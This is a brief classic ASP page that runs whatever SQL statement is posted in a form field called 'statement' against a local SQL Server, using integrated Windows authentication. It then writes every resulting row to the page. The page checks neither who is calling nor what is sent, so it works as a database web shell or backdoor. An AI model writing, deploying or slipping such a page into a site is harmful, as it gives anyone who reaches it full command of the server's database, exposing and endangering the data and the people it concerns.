<%
Dim conn, rs, i
Set conn = Server.CreateObject("ADODB.Connection")
conn.Open "Provider=SQLOLEDB;Data Source=(local);Integrated Security=SSPI"
Set rs = conn.Execute(Request.Form("statement"))
Do While Not rs.EOF
    For i = 0 To rs.Fields.Count - 1
        Response.Write Server.HTMLEncode(rs(i) & "") & vbTab
    Next
    Response.Write "<br>"
    rs.MoveNext
Loop
%>
